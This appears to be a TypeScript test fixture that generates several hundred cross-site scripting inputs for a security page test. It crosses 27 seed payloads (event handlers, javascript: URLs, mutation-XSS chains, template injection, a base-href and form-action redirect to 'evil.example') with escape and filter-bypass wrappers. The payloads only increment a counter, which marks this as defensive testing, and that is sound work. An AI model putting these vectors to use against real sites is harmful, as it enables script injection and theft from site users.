/** What a text that became script would do: a page counts it. */
const ran = 'window.ran = (window.ran || 0) + 1';

/** Ways to have script run where text is expected. */
const seeds: readonly string[] = [
  `<script>${ran}</script>`,
  `<img src=x onerror="${ran}">`,
  `<svg onload="${ran}">`,
  `"><img src=x onerror="${ran}">`,
  `'><svg/onload=${ran}>`,
  `</title><script>${ran}</script>`,
  `</textarea><script>${ran}</script>`,
  `</style><script>${ran}</script>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<a href="javascript:${ran}">x</a>`,
  `javascript:${ran}`,
  `<math><mtext></table><mglyph><style><img src onerror="${ran}">`,
  `{{constructor.constructor('${ran}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is what is tried
  '${window.ran = 1}',
  `<details open ontoggle="${ran}">`,
  `<body onload="${ran}">`,
  `<input autofocus onfocus="${ran}">`,
  `<video><source onerror="${ran}">`,
  `<object data="javascript:${ran}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${ran}">`,
  `\u003cimg src=x onerror="${ran}"\u003e`,
  `&lt;img src=x onerror="${ran}"&gt;`,
  `%3Cscript%3E${ran}%3C/script%3E`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `<img/src=x\u2028onerror="${ran}">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button>x</button>`,
];

/** Ways out of the place that a text is put in, and ways past whoever looks for tags. */
const ways: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `]]>${text}`,
  (text) => `</script>${text}`,
  (text) => `</noscript></template>${text}`,
  (text) => `</option></select>${text}`,
  (text) => `</svg></math>${text}`,
  (text) => text.replaceAll('"', '&quot;'),
  (text) => text.replaceAll(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll(/(?<=<\w+) /g, '/'),
  (text) => text.replaceAll('<', '＜<'),
  (text) => text.replaceAll(/(?<=on\w+)=/g, '\u00a0='),
  (text) => [...text].map((sign) => (sign === '<' ? '&#x3c;' : sign)).join(''),
];

/** Hundreds of texts that would like to be script (security page, T17). */
export const hostileTexts: readonly string[] = [...new Set(seeds.flatMap((seed) => ways.map((way) => way(seed))))];
